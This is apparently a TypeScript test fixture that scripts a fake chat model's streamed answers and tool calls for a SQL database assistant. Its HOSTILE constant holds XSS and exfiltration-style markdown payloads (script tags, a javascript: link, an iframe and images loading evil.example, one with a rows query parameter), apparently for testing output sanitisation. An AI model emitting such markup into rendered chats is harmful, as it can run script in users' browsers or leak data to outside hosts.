import { type JsonObject, type MessageInitShape } from '@bufbuild/protobuf';
import type { ChatEventSchema, ToolResultSchema } from '../../src/gen/chatdata/v1/chat_event_pb';
import { ErrorReason } from '../../src/gen/chatdata/v1/error_reason_pb';
import type { QueryResult } from '../../src/gen/chatdata/v1/query_result_pb';
import { FinishReason, TurnStatus } from '../../src/gen/chatdata/v1/turn_pb';
import { orders, profile, queryResult, tables } from './catalog';

type Event = NonNullable<MessageInitShape<typeof ChatEventSchema>['event']>;
type Outcome = NonNullable<MessageInitShape<typeof ToolResultSchema>['outcome']>;

export interface Script {
  steps: Event[];
  /** Results that GetResult has in full. */
  results: QueryResult[];
  ending: { status: TurnStatus; finishReason: FinishReason; error?: string; reason?: string };
  followUps: string[];
}

const PREVIEW = 50;
const DONE = { status: TurnStatus.COMPLETED, finishReason: FinishReason.STOP };
const nothing = (): Script => ({ steps: [], results: [], ending: DONE, followUps: [] });

/** The text word by word, as a model streams it. */
function say(text: string): Event[] {
  return (text.match(/\s*\S+\s*/g) ?? []).map((piece) => ({
    case: 'token',
    value: { text: piece },
  }));
}

let calls = 0;

function call(tool: string, given: JsonObject, outcome: Outcome): Event[] {
  calls += 1;
  const toolCallId = `call_${calls}`;
  return [
    { case: 'toolCall', value: { toolCallId, tool, arguments: given, round: 1 } },
    {
      case: 'toolResult',
      value: { toolCallId, elapsed: { seconds: 0n, nanos: 38_000_000 }, outcome },
    },
  ];
}

function query(script: Script, sql: string, result: QueryResult): Event[] {
  script.results.push(result);
  const preview = { ...result, rows: result.rows.slice(0, PREVIEW) };
  return call('run_query', { sql }, { case: 'runQuery', value: preview });
}

/** What the fake model does about a question. */
export function scriptFor(question: string, provider: string): Script {
  const script = nothing();
  const asks = (pattern: RegExp): boolean => pattern.test(question.toLowerCase());
  if (provider === 'openai') {
    script.ending = {
      status: TurnStatus.FAILED,
      finishReason: FinishReason.ERROR,
      error:
        'openai needs OPENAI_API_KEY; set it, or use the provider ‘builtin’, which needs no key',
      reason: 'PROVIDER_NOT_CONFIGURED',
    };
  } else if (asks(/hostile/)) script.steps = say(HOSTILE);
  else if (asks(/tables/)) listTables(script);
  else if (asks(/structure/)) {
    script.steps = [
      ...call('get_table_info', { table: 'orders' }, { case: 'getTableInfo', value: orders }),
      ...say(
        '`public.orders` has **6 columns**; its primary key is `id`, and `customer_id` refers to `customers`.',
      ),
    ];
  } else if (asks(/profile/)) {
    script.steps = [
      ...call('profile_table', { table: 'customers' }, { case: 'profileTable', value: profile }),
      ...say(
        '37 customers have no `segment`, and 4 have an empty one. The other columns are complete.',
      ),
    ];
  } else if (asks(/retry/)) retry(script);
  else if (asks(/best/)) bestProducts(script);
  else bySegment(script);
  return script;
}

function listTables(script: Script): void {
  script.steps = [
    ...call('list_tables', { schema: 'public' }, { case: 'listTables', value: tables }),
    ...say(
      'Your database has **6 tables and views** in the schema `public`:\n\n' +
        '| Table | Rows | What it holds |\n|---|---:|---|\n' +
        '| `customers` | 4,812 | People who have bought |\n| `order_items` | 149,220 | What each order contains |\n' +
        '| `orders` | 50,034 | One row an order |\n| `products` | 240 | What is sold |\n| `users` | 5,200 | Accounts of the web shop |\n\n' +
        '`sales` is a view that joins orders with customers and products.',
    ),
  ];
  script.followUps = ['Show me the structure of the orders table', 'Profile the customers table'];
}

function bySegment(script: Script): void {
  const sql =
    'SELECT c.segment, count(*) AS orders, round(avg(o.total), 2) AS average FROM orders AS o JOIN customers AS c ON c.id = o.customer_id GROUP BY c.segment ORDER BY average DESC';
  const result = queryResult(
    crypto.randomUUID(),
    sql,
    [
      ['segment', 'text'],
      ['orders', 'int8'],
      ['average', 'numeric'],
    ],
    [
      ['business', '9120', '412.80'],
      ['consumer', '38004', '96.15'],
      ['education', '2871', '88.02'],
      [null, '39', '71.40'],
    ],
  );
  script.steps = [
    {
      case: 'thinking',
      value: { text: 'The value of an order is orders.total, and the segment is in customers. ' },
    },
    {
      case: 'thinking',
      value: { text: 'I join both by customer_id and take the mean for each segment.' },
    },
    ...query(script, sql, result),
    ...say(
      '**Business customers** spend the most: **€ 412.80** an order on average, over four times as much as consumers.\n\n' +
        '1. Business: € 412.80 over 9,120 orders\n2. Consumer: € 96.15 over 38,004 orders\n3. Education: € 88.02 over 2,871 orders\n\n' +
        '39 orders belong to customers without a segment.\n\n> Assumed: the value of an order is `orders.total`, returned orders included.',
    ),
    { case: 'usage', value: { inputTokens: 2_310n, outputTokens: 148n, costUsd: '0.00915' } },
  ];
  script.followUps = ['Only orders of this year', 'The same by month', 'Without returned orders'];
}

function bestProducts(script: Script): void {
  const sql =
    'SELECT p.id, p.name, sum(i.quantity) AS sold, p.discontinued_on FROM products p JOIN order_items i ON i.product_id = p.id GROUP BY p.id LIMIT 1000';
  const result = queryResult(
    crypto.randomUUID(),
    sql,
    [
      ['id', 'int8'],
      ['name', 'text'],
      ['sold', 'int8'],
      ['discontinued_on', 'date'],
    ],
    Array.from({ length: 240 }, (_, row) => [
      String(row + 1),
      row === 3 ? '' : `Product ${row + 1}`,
      String(9_800 - row * 37),
      row % 7 ? null : '2025-02-01',
    ]),
    true,
  );
  script.steps = [
    ...query(script, sql, result),
    ...say('**Product 1** sells best, with 9,800 pieces.'),
  ];
}

function retry(script: Script): void {
  const wrong = 'SELECT sum(totl) FROM orders';
  const sql = 'SELECT sum(total) AS revenue FROM orders';
  script.steps = [
    ...call(
      'run_query',
      { sql: wrong },
      {
        case: 'error',
        value: {
          reason: ErrorReason.STATEMENT_FAILED,
          message:
            'column "totl" does not exist. Perhaps you meant to reference the column "orders.total".',
          sqlstate: '42703',
          position: 12,
        },
      },
    ),
    ...query(
      script,
      sql,
      queryResult(crypto.randomUUID(), sql, [['revenue', 'numeric']], [['7669441.18']]),
    ),
    ...say('The revenue of all orders is **€ 7,669,441.18**.'),
  ];
}

const HOSTILE = `<img src="https://evil.example/pixel.png"> <script>alert(1)</script>

![a picture](https://evil.example/leak.png?rows=1) [click me](javascript:alert(1)) [fine](https://example.org/)

<iframe src="https://evil.example"></iframe>`;
